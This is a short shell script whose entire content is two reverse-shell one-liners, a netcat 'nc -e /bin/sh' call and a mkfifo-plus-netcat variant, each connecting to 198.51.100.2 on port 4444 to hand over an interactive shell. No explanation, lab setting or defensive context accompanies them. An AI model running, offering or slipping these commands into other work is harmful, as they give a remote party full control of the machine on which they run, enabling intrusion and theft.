#!/bin/sh
nc -e /bin/sh 198.51.100.2 4444
rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.2 4444 > /tmp/f
